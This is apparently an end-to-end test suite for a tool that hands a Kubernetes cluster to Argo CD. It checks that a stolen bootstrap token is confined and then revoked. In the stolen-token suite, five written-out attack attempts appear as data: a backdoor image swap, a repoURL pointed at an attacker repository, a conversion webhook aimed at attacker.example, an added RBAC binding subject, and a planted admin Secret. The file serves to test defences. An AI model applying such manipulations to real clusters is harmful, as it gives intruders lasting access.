import { execFile } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { readEntries, writeSigningKeyPair } from '@baton/audit';
import { type HandoffStep, type HandoffSummary, type LoadedPlan, loadHandoffPlan, runHandoff } from '@baton/core';
import {
  clientsFromKubeconfigFile,
  findBootstrapLeftovers,
  type KubeClients,
  type KubeObject,
  probeToken,
  readObject,
} from '@baton/kube';
import {
  ARGOCD_REPO_SECRET,
  type ArgoCd,
  type ArgoCdSide,
  ensureArgoCd,
  type HandoffBed,
  startArgoCdBed,
} from '@baton/testenv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { type AttemptResult, attacker, stealToken } from '../../support/attacker.js';
import { fleetUp, writeFleetFile } from '../../support/fleet-env.js';
import { auditEventsBy, JWT_PATTERN, runBaton, testHandoffDeps } from '../../support/handoff-run.js';
import { expectKillMidPushThenHandOff } from '../../support/kill-rerun.js';
import { adminClients, confinementsLeft, eventually, statusOfCall } from '../../support/kube.js';
import { expectPulumiHandoff } from '../../support/pulumi-handoff.js';
import { expectRewriteRepaired } from '../../support/tamper-repair.js';

// A handoff to real Argo CD on the bed's real node (the application controller, repo-server and redis as containers
// from images built here: the slim Argo CD binary from Go modules, Debian's git and redis-server) through baton's
// engine: the confined bootstrap credential pushes the minimal bootstrap-manifests/argocd, Argo CD syncs the root
// Application from a real Git server and takes over what Git carries, the credential is revoked and the revocation
// proven. Takeover is the profile's rules (rules/profile.yaml).
const ROOT = new URL('../../../', import.meta.url).pathname;
const ARGOCD_DIR = join(ROOT, 'bootstrap-manifests/argocd');
const _execFileAsync = promisify(execFile);

let argocd: ArgoCd;

beforeAll(async () => {
  // A cold machine builds Argo CD here (7 to 12 minutes on 2 cores, with GOTOOLCHAIN=go1.27.3); later runs reuse it.
  argocd = await ensureArgoCd();
}, 2_400_000);

function startBed(
  o: { pullPassword?: string; takeoverTimeoutSeconds?: number; privilege?: 'scoped' | 'cluster-admin' } = {},
) {
  return startArgoCdBed({
    profileDir: ARGOCD_DIR,
    argocd,
    writeAuditKeys: (paths) => writeSigningKeyPair({ ...paths, name: 'baton-argocd-e2e' }),
    ...o,
  });
}

/** A fresh bed for the enclosing describe: started before its tests, stopped after them. */
function useBed(o: Parameters<typeof startBed>[0] = {}): () => HandoffBed<ArgoCdSide> {
  let bed: HandoffBed<ArgoCdSide> | undefined;
  beforeAll(async () => {
    bed = await startBed(o);
  }, 300_000);
  afterAll(async () => {
    await bed?.stop();
  });
  return () => bed!;
}

const ARGO_APP = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application' } as const;

/** The pushed object of `file` (in the rendered push set) with this kind and name, as the plan declares it. */
function planned(side: ArgoCdSide, file: string, kind: string, name: string): KubeObject {
  // The CRDs are 05-crds.generated.yaml when the profile carries the build's copy, 05-crds.yaml when the side adds it.
  const path = [file, file.replace(/\.yaml$/, '.generated.yaml')]
    .map((f) => join(side.pushDir, f))
    .find((p) => existsSync(p));
  if (!path) throw new Error(`the push set has no ${file}`);
  const docs = parseAllDocuments(readFileSync(path, 'utf8'), { version: '1.1' });
  const o = docs.map((d) => d.toJS() as KubeObject).find((x) => x?.kind === kind && x.metadata.name === name);
  if (!o) throw new Error(`${file} has no ${kind} ${name}`);
  return o;
}

describe('a handoff to real Argo CD, attacked with a stolen bootstrap token during the push', () => {
  let bed: HandoffBed<ArgoCdSide>;
  let loaded: LoadedPlan;
  let admin: KubeClients;
  let s: HandoffSummary;
  let logText = '';
  let stolen = '';
  const attempts: Record<string, AttemptResult> = {};

  beforeAll(async () => {
    bed = await startBed();
    loaded = loadHandoffPlan(bed.side.planPath);
    admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
    const operator = adminClients(bed.kubeconfigPath);
    const { deps, captured } = testHandoffDeps(loaded, bed.kubeconfigPath, {
      onStep: async (step: HandoffStep) => {
        if (step !== 'push') return;
        const sa = (await operator.core.listNamespacedServiceAccount({ namespace: 'baton-system' })).items.find((x) =>
          x.metadata?.name?.startsWith('baton-bootstrap-'),
        )!.metadata!.name!;
        stolen = await stealToken(operator, 'baton-system', sa);
        // The push has not created the Application CRD yet, and a write of a kind the API does not serve is a 404
        // before admission: install the CRD first (a cluster that had it already), so the thief's Application write
        // reaches the confinement, as it would once the push had created it.
        await installApplicationCrd(operator);
        Object.assign(attempts, await attack(stolen));
      },
    });
    s = await runHandoff(loaded, deps);
    logText = captured.text();
  }, 600_000);

  afterAll(async () => {
    await bed?.stop();
  });

  /** Applies the planned Application CRD as the operator and waits until the API serves Applications. */
  async function installApplicationCrd(operator: ReturnType<typeof adminClients>) {
    const crd = planned(bed.side, '05-crds.yaml', 'CustomResourceDefinition', 'applications.argoproj.io');
    // As the push's own field manager (an earlier, interrupted run of this handoff): the push applies over it.
    await operator.rest.apply(crd as never, { fieldManager: loaded.plan.push.fieldManager });
    await eventually(
      async () =>
        (await operator.objects.list('argoproj.io/v1alpha1', 'Application', 'argocd').then(
          () => true,
          () => false,
        )) === true,
      30_000,
      'the API to serve argoproj.io/v1alpha1 Applications',
      200,
    );
  }

  /** What a thief of the bootstrap token tries against this set: each would be lasting access or a foothold. */
  async function attack(token: string) {
    const { c, out, attempt, apply } = attacker(bed.kubeconfigPath, token);
    const sts = planned(bed.side, '40-workloads.yaml', 'StatefulSet', 'argocd-application-controller');
    const template = (sts.spec as { template: { spec: { containers: Record<string, unknown>[] } } }).template;
    await attempt("run another image in the StatefulSet's pod template", () =>
      apply({
        ...sts,
        spec: {
          ...(sts.spec as object),
          template: {
            ...template,
            spec: {
              ...template.spec,
              containers: [{ ...template.spec.containers[0], image: 'registry.example/backdoor:1' }],
            },
          },
        },
      }),
    );
    const root = planned(bed.side, '50-root.yaml', 'Application', 'root');
    const source = (root.spec as { source: Record<string, unknown> }).source;
    await attempt("point the root Application's repoURL at another repository", () =>
      apply({
        ...root,
        spec: { ...(root.spec as object), source: { ...source, repoURL: 'https://git.example/attacker.git' } },
      }),
    );
    const crd = planned(bed.side, '05-crds.yaml', 'CustomResourceDefinition', 'applications.argoproj.io');
    await attempt('send the Application CRD’s objects to a conversion webhook', () =>
      apply({
        ...crd,
        spec: {
          ...(crd.spec as object),
          conversion: {
            strategy: 'Webhook',
            webhook: {
              conversionReviewVersions: ['v1'],
              clientConfig: { url: 'https://attacker.example/convert' },
            },
          },
        },
      }),
    );
    const binding = planned(bed.side, '25-reconciler-rbac.yaml', 'ClusterRoleBinding', 'argocd-reconciler');
    await attempt('add a subject to the reconciler binding', () =>
      apply({
        ...binding,
        subjects: [
          ...(binding as unknown as { subjects: object[] }).subjects,
          { kind: 'ServiceAccount', name: 'default', namespace: 'default' },
        ],
      }),
    );
    await attempt('create a Secret the plan does not declare', () =>
      c.core.createNamespacedSecret({
        namespace: 'argocd',
        body: { metadata: { name: 'argocd-initial-admin-secret' }, stringData: { password: 'x' } },
      }),
    );
    return out;
  }

  it('ends handed-off: Argo CD synced the commit, owns what Git carries; CRDs, RBAC and Secrets are push-only', () => {
    expect(s.outcome, s.error).toBe('handed-off');
    expect(s.takeover?.revisionSeen).toBe(bed.side.revision);
    expect(s.takeover?.notTakenOver).toEqual([]);
    expect([...(s.takeover?.ownedObjects ?? [])].sort()).toEqual(
      [
        'AppProject/argocd/default',
        'Application/argocd/root',
        'ConfigMap/argocd/argocd-cm',
        'ConfigMap/argocd/argocd-cmd-params-cm',
        'ConfigMap/argocd/argocd-rbac-cm',
        'Deployment/argocd/argocd-redis',
        'Deployment/argocd/argocd-repo-server',
        'Namespace/argocd',
        'Service/argocd/argocd-redis',
        'Service/argocd/argocd-repo-server',
        'ServiceAccount/argocd/argocd-application-controller',
        'ServiceAccount/argocd/argocd-redis',
        'ServiceAccount/argocd/argocd-repo-server',
        'StatefulSet/argocd/argocd-application-controller',
      ].sort(),
    );
    expect([...(s.takeover?.pushOnly ?? [])].sort()).toEqual(
      [
        'ClusterRole/argocd-reconciler',
        'ClusterRoleBinding/argocd-reconciler',
        'CustomResourceDefinition/applications.argoproj.io',
        'CustomResourceDefinition/appprojects.argoproj.io',
        'Role/argocd/argocd-application-controller',
        'RoleBinding/argocd/argocd-application-controller',
        'Secret/argocd/argocd-redis',
        'Secret/argocd/argocd-secret',
        'Secret/argocd/cluster-config-repo',
      ].sort(),
    );
  });

  it('Argo CD’s own status says so, read independently of baton: Synced at the commit, Healthy, applied server-side', async () => {
    const app = (await readObject(admin, { ...ARGO_APP, metadata: { name: 'root', namespace: 'argocd' } })) as
      | { status?: { sync?: { status?: string; revision?: string }; health?: { status?: string } } }
      | undefined;
    expect(app?.status?.sync).toMatchObject({ status: 'Synced', revision: bed.side.revision });
    expect(app?.status?.health?.status).toBe('Healthy');
    const sts = await admin.apps.readNamespacedStatefulSet({
      namespace: 'argocd',
      name: 'argocd-application-controller',
    });
    expect(sts.metadata?.managedFields?.some((f) => f.manager === 'argocd-controller' && f.operation === 'Apply')).toBe(
      true,
    );
    const demo = await admin.core.readNamespacedConfigMap({ namespace: 'argocd-demo', name: 'web-config' });
    expect(demo.data?.greeting).toBe('hello from git');
  });

  it('the confinement held the Application CRD (416 KB) by its security-relevant fields and stayed under 256 KB', () => {
    expect(s.confinement?.partlyPinned).toEqual(['CustomResourceDefinition/applications.argoproj.io']);
    expect(s.confinement?.policyBytes).toBeLessThanOrEqual(256 * 1024);
    // The rest of it was compared after the window closed.
    expect(s.confinement?.verifiedObjects).toBe(s.confinement?.allowed.length);
  });

  it('refused every stolen-token attempt naming the plan digest; nothing of them is in the cluster', async () => {
    expect(Object.keys(attempts)).toHaveLength(5);
    for (const [name, r] of Object.entries(attempts)) {
      expect(r.status, name).toBe(403);
      expect(r.message, name).toContain(s.confinement!.planDigest);
    }
    const sts = await admin.apps.readNamespacedStatefulSet({
      namespace: 'argocd',
      name: 'argocd-application-controller',
    });
    // On the real node the bed's copy pins its own build of upstream's image by digest.
    const image = bed.side.images['quay.io/argoproj/argocd'];
    expect(image).toMatch(/^quay\.io\/argoproj\/argocd:v3\.6\.1@sha256:[0-9a-f]{64}$/);
    expect(sts.spec?.template.spec?.containers[0]?.image).toBe(image);
    const root = (await readObject(admin, {
      ...ARGO_APP,
      metadata: { name: 'root', namespace: 'argocd' },
    })) as unknown as {
      spec: { source: { repoURL: string } };
    };
    expect(root.spec.source.repoURL).toBe(bed.side.git.repoUrl('cluster-config'));
    const crd = (await readObject(admin, {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: 'applications.argoproj.io' },
    })) as unknown as { spec: { conversion?: { strategy?: string } } };
    expect(crd.spec.conversion?.strategy ?? 'None').toBe('None');
    const binding = await admin.rbac.readClusterRoleBinding({ name: 'argocd-reconciler' });
    expect(binding.subjects?.map((x) => `${x.namespace}/${x.name}`)).toEqual(['argocd/argocd-application-controller']);
    expect(
      await statusOfCall(() =>
        admin.core.readNamespacedSecret({ namespace: 'argocd', name: 'argocd-initial-admin-secret' }),
      ),
    ).toBe(404);
    // Revoked with the run's identity: the API server's 10 s token cache may still accept it a moment longer.
    await expect.poll(() => probeToken(admin, stolen), { timeout: 30_000, interval: 500 }).toBe(401);
  });

  it('revoked and proven, nothing left, nothing secret in the log; the signed audit event names argocd', async () => {
    expect(s.credential?.revokedAt).toBeTruthy();
    expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
    expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
    expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
    expect(logText).not.toMatch(JWT_PATTERN);
    expect(logText).not.toContain(stolen);
    for (const secret of bed.side.secretValues) expect(logText).not.toContain(secret);
    const events = [];
    for await (const e of readEntries(bed.side.auditLogPath)) events.push(e.statement.predicate);
    expect(events).toHaveLength(1);
    const e = events[0]!;
    expect(e.outcome).toBe('handed-off');
    expect(e.plan.push.profile).toBe('argocd');
    expect(e.plan.push.profileDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(e.plan.pull.privilege).toBe('scoped');
    expect(e.plan.push.controller.image).toBe('quay.io/argoproj/argocd:v3.6.1');
    const { stdout } = await runBaton(['audit', 'verify', bed.side.auditLogPath, '--keys', bed.side.keysPath]);
    expect(stdout).toMatch(/verified|ok/i);
  });

  it('the apiserver stored one write per planned object by the identity, none after the window', () => {
    if (!bed.apiserverAuditLogPath) throw new Error('the test bed runs the apiserver with an audit log');
    const events = auditEventsBy(bed.apiserverAuditLogPath, s.credential!.subject);
    const at = (e: { requestReceivedTimestamp: string }) => Date.parse(e.requestReceivedTimestamp);
    const allowed = events.filter((e) => (e.responseStatus?.code ?? 0) < 300);
    const show = (e: (typeof events)[number]) => `${e.verb} ${e.requestURI} ${e.responseStatus?.code}`;
    const isReview = (e: (typeof events)[number]) => /^self\w+reviews$/.test(e.objectRef?.resource ?? '');
    const writes = allowed.filter(
      (e) =>
        ['create', 'patch', 'update', 'delete'].includes(e.verb) && !isReview(e) && !e.requestURI.includes('dryRun='),
    );
    expect(writes.length).toBe(s.confinement!.allowed.length);
    const closed = Date.parse(s.confinement!.closedAt!);
    expect(writes.filter((e) => at(e) > closed).map(show)).toEqual([]);
    // The self-reviews after the proof are the test's own probes of the stolen token (above), not the identity's use.
    expect(allowed.filter((e) => at(e) > Date.parse(s.proof!.provedAt) && !isReview(e)).map(show)).toEqual([]);
  });

  it('pull works after the push credential is gone: a later commit is applied by Argo CD', async () => {
    const file = `${bed.side.gitPath}/apps/demo.yaml`;
    const next = await bed.side.git.commitFiles(
      'cluster-config',
      { [file]: bed.side.files[file]!.replace('hello from git', 'after the handoff') },
      'change greeting',
    );
    await eventually(
      async () =>
        (await admin.core.readNamespacedConfigMap({ namespace: 'argocd-demo', name: 'web-config' })).data?.greeting ===
        'after the handoff',
      150_000,
      `Argo CD to apply ${next.slice(0, 12)}`,
      1000,
    );
  }, 180_000);

  it('a manual change to an object Argo CD manages is reverted (self-heal)', async () => {
    const path = { namespace: 'argocd', name: 'argocd-repo-server' };
    await admin.core.patchNamespacedService({
      ...path,
      body: [{ op: 'replace', path: '/metadata/labels/app.kubernetes.io~1component', value: 'tampered' }],
    });
    await eventually(
      async () =>
        (await admin.core.readNamespacedService(path)).metadata?.labels?.['app.kubernetes.io/component'] ===
        'repo-server',
      150_000,
      'Argo CD to restore Service argocd/argocd-repo-server from Git',
      1000,
    );
  }, 180_000);
});

describe('through `pulumi up` (stacks/local with profile argocd: the controller block from the profile, as controllers.argocd() gives)', () => {
  const bedOf = useBed();

  it('hands off to Argo CD with the real engine: receipt in the stack, revoked and proven, nothing secret printed', async () => {
    const bed = bedOf();
    await expectPulumiHandoff(bed, 'argocd');
    // The stack's pushSecrets config reached the cluster: the Secrets Argo CD's pods read (kubelet starts none of them
    // without argocd-redis) hold the plan files' values.
    const admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
    for (const name of ['argocd-redis', 'argocd-secret']) {
      const want = parseAllDocuments(readFileSync(join(bed.side.dir, `${name}.yaml`), 'utf8'))[0]!.toJS() as Record<
        string,
        string
      >;
      const got = (await admin.core.readNamespacedSecret({ name, namespace: 'argocd' })).data ?? {};
      expect(
        Object.fromEntries(Object.entries(got).map(([k, v]) => [k, Buffer.from(v, 'base64').toString()])),
        name,
      ).toEqual(want);
    }
  }, 420_000);
});

describe('through `baton fleet up` (a fleet of one whose plan template is the Argo CD plan)', () => {
  const bedOf = useBed();

  it('hands the cluster to Argo CD: exit 0, one handoff event via fleet naming profile argocd, nothing left', async () => {
    const bed = bedOf();
    const file = writeFleetFile(join(bed.side.dir, 'fleet.yaml'), {
      template: bed.side.planPath,
      clusters: [{ name: bed.clusterName, kubeconfigPath: bed.kubeconfigPath }],
      waves: [{}],
      concurrency: 1,
      failureBudget: 0,
    });
    const r = await fleetUp(['-f', file]);
    expect(r.code, r.stderr.slice(-3000)).toBe(0);
    expect(r.result.waves.flatMap((w) => w.clusters).map((c) => [c.name, c.status])).toEqual([
      [bed.clusterName, 'handed-off'],
    ]);
    const handoffs = [];
    for await (const e of readEntries(bed.side.auditLogPath))
      if ('plan' in e.statement.predicate) handoffs.push(e.statement.predicate);
    expect(handoffs.map((e) => [e.outcome, e.actor.via, e.plan.push.profile, e.readiness?.reconciledRevision])).toEqual(
      [['handed-off', 'fleet', 'argocd', bed.side.revision]],
    );
    expect(await findBootstrapLeftovers(clientsFromKubeconfigFile(bed.kubeconfigPath), 'baton-system')).toEqual([]);
    expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
    expect(r.stdout + r.stderr).not.toMatch(JWT_PATTERN);
    for (const secret of bed.side.secretValues) expect(r.stdout + r.stderr).not.toContain(secret);
  }, 420_000);
});

describe('with controller.privilege: cluster-admin, the rest of Argo CD’s install comes from Git', () => {
  const bedOf = useBed({ privilege: 'cluster-admin' });

  it('hands off, recording the privilege; Argo CD then applies and owns upstream’s argocd-server, dex, notifications, ApplicationSet and NetworkPolicies', async () => {
    const bed = bedOf();
    const loaded = loadHandoffPlan(bed.side.planPath);
    const { deps } = testHandoffDeps(loaded, bed.kubeconfigPath);
    const s = await runHandoff(loaded, deps);
    // The takeover waits for the root Application Synced at the commit and Healthy: the rest synced with it.
    expect(s.outcome, s.error).toBe('handed-off');
    const events = [];
    for await (const e of readEntries(bed.side.auditLogPath)) events.push(e.statement.predicate);
    expect(events.map((e) => ('plan' in e ? [e.outcome, e.plan.pull.privilege] : []))).toEqual([
      ['handed-off', 'cluster-admin'],
    ]);
    const admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
    const rest = bed.side.files['clusters/demo/argocd-rest/install.yaml']!;
    const objects = parseAllDocuments(rest)
      .map((d) => d.toJS() as KubeObject)
      .filter((o) => o?.kind);
    for (const want of [
      'Deployment/argocd-server',
      'Deployment/argocd-dex-server',
      'Deployment/argocd-notifications-controller',
      'Deployment/argocd-applicationset-controller',
      'CustomResourceDefinition/applicationsets.argoproj.io',
      'ClusterRole/argocd-server',
      'NetworkPolicy/argocd-server-network-policy',
    ])
      expect(objects.map((o) => `${o.kind}/${o.metadata.name}`)).toContain(want);
    // Nothing the push carries is in it twice, and upstream's */*/* controller role is left out.
    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`)).not.toContain(
      'StatefulSet/argocd-application-controller',
    );
    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`)).not.toContain(
      'ClusterRole/argocd-application-controller',
    );
    // The plan's Secrets stay push-only: upstream's empty argocd-secret would make Argo CD co-own the pushed one.
    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`)).not.toContain('Secret/argocd-secret');
    const notOwned: string[] = [];
    for (const o of objects) {
      const live = await readObject(admin, {
        ...o,
        metadata: {
          ...o.metadata,
          ...(o.kind.startsWith('Cluster') || o.kind === 'CustomResourceDefinition' ? {} : { namespace: 'argocd' }),
        },
      });
      const managers = ((live?.metadata.managedFields ?? []) as { manager?: string }[]).map((m) => m.manager);
      if (!managers.includes('argocd-controller'))
        notOwned.push(`${o.kind}/${o.metadata.name}: ${live ? managers.join(',') : 'missing'}`);
    }
    expect(notOwned).toEqual([]);
  }, 420_000);
});

describe('an Argo CD that cannot read Git', () => {
  let bed: HandoffBed<ArgoCdSide>;
  let admin: KubeClients;

  beforeAll(async () => {
    bed = await startBed({ pullPassword: 'not-the-git-password', takeoverTimeoutSeconds: 60 });
    admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
  }, 300_000);

  afterAll(async () => {
    await bed?.stop();
  });

  it('a wrong repository password fails at takeover, revoked and proven, quoting Argo CD', async () => {
    const loaded = loadHandoffPlan(bed.side.planPath);
    const { deps } = testHandoffDeps(loaded, bed.kubeconfigPath);
    const s = await runHandoff(loaded, deps);
    expect(s.outcome).toBe('failed');
    expect(s.failedStep).toBe('takeover');
    expect(s.error).toContain('Application/argocd/root');
    // baton quotes the Application's ComparisonError. Argo CD keeps its first one when later comparisons fail
    // against the repository too (controller/appcontroller.go: "Ignoring temporary failed attempt to compare app
    // state against repo"), so when its controller compared before the repo-server listened (a race on a real node),
    // the condition, and the quote (cut to its first line's length), stay that first "connection refused".
    expect(s.error).toMatch(/ComparisonError: .*(authentication required|Error while dialing: dial tcp [0-9.]+:8081)/);
    expect(s.error).not.toContain('not-the-git-password');
    // Either way the repo-server met the wrong password: it says so in its own log, read through the apiserver.
    const [repoServer] = (
      await admin.core.listNamespacedPod({
        namespace: 'argocd',
        labelSelector: 'app.kubernetes.io/name=argocd-repo-server',
      })
    ).items;
    const repoLog = await admin.core.readNamespacedPodLog({ namespace: 'argocd', name: repoServer!.metadata!.name! });
    expect(repoLog).toContain('authentication required');
    expect(repoLog).not.toContain('not-the-git-password');
    expect(s.credential?.revokedAt).toBeTruthy();
    expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
    expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
    expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
  }, 300_000);
});

describe('a repository Secret and argocd-secret rewritten during the push window (issue 29)', () => {
  const bed = useBed();

  it('are pushed again by a second confined identity, every Argo CD pod restarted on them; tampered, then a rerun hands off', async () => {
    await expectRewriteRepaired(bed(), {
      secrets: [
        { namespace: 'argocd', name: ARGOCD_REPO_SECRET },
        { namespace: 'argocd', name: 'argocd-secret' },
      ],
      workloads: [
        { kind: 'Deployment', namespace: 'argocd', name: 'argocd-redis' },
        { kind: 'Deployment', namespace: 'argocd', name: 'argocd-repo-server' },
        { kind: 'StatefulSet', namespace: 'argocd', name: 'argocd-application-controller' },
      ],
    });
  }, 600_000);
});

describe('kill -9 mid-push to Argo CD', () => {
  let bed: HandoffBed<ArgoCdSide>;
  const started = Date.now();

  beforeAll(async () => {
    bed = await startBed();
  }, 300_000);

  afterAll(async () => {
    await bed?.stop();
  });

  it('kill -9 of baton up mid-push, then again: handed off to Argo CD, each run’s credential revoked', async () => {
    await expectKillMidPushThenHandOff(bed, started);
  }, 480_000);
});
